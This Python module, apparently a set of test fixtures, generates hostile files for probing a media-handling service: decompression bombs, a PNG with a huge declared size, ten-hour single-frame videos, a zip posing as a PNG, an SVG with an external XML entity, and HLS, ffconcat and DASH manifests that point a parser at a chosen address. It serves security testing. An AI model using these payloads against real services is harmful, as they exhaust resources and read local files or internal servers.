"""Files that would make a careless service read what is not theirs, or take more than it has."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from fractions import Fraction

import av
import numpy as np

__all__ = ["BOMBS"]

_HOURS = 10


def _png_header(address: str) -> bytes:
    """A PNG of 50,000×50,000 by its header."""
    header = struct.pack(">II5B", 50_000, 50_000, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(2**20))), (b"IEND", b""))
    parts = [struct.pack(">I", len(d)) + kind + d + struct.pack(">I", zlib.crc32(kind + d)) for kind, d in chunks]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _zip(address: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("x.png", bytes(10**7))
    return file.getvalue()


def _svg(address: str) -> bytes:
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{address}">]>'
    image = '<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99"><text>&x;</text></svg>'
    return f'<?xml version="1.0"?>{entity}{image}'.encode()


def _one_frame(container_format: str) -> Callable[[str], bytes]:
    def make(address: str) -> bytes:
        """A video of one frame that is shown for ten hours."""
        file = io.BytesIO()
        with av.open(file, "w", format=container_format) as out:
            stream = out.add_stream("libx264", rate=25, options={"preset": "ultrafast"})
            stream.width, stream.height, stream.pix_fmt = 32, 24, "yuv420p"
            frame = av.VideoFrame.from_ndarray(np.zeros((24, 32, 3), np.uint8), format="rgb24")
            frame.pts, frame.time_base = 0, Fraction(1, 25)
            for packet in [*stream.encode(frame), *stream.encode()]:
                packet.duration = round(_HOURS * 3600 / packet.time_base)
                out.mux(packet)
        return file.getvalue()

    return make


# Bytes of a file, of the address of a file or a server that it points at.
BOMBS: dict[str, Callable[[str], bytes]] = {
    "a PNG header of 50,000x50,000": _png_header,
    "a gzip bomb": lambda address: gzip.compress(bytes(2**25), mtime=0),
    "one frame for ten hours, as MP4": _one_frame("mp4"),
    "one frame for ten hours, as Matroska": _one_frame("matroska"),
    "a zip named .png": _zip,
    "an HLS playlist": lambda address: f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}\n".encode(),
    "an ffconcat": lambda address: f"ffconcat version 1.0\nfile '{address}'\n".encode(),
    "an SVG with an entity": _svg,
    "a session description": lambda address: (
        b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nt=0 0\nm=video 9 RTP/AVP 96\n"
    ),
    "a DASH manifest": lambda address: (
        f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><BaseURL>{address}</BaseURL></Period>'
        "</MPD>"
    ).encode(),
}  # fmt: skip
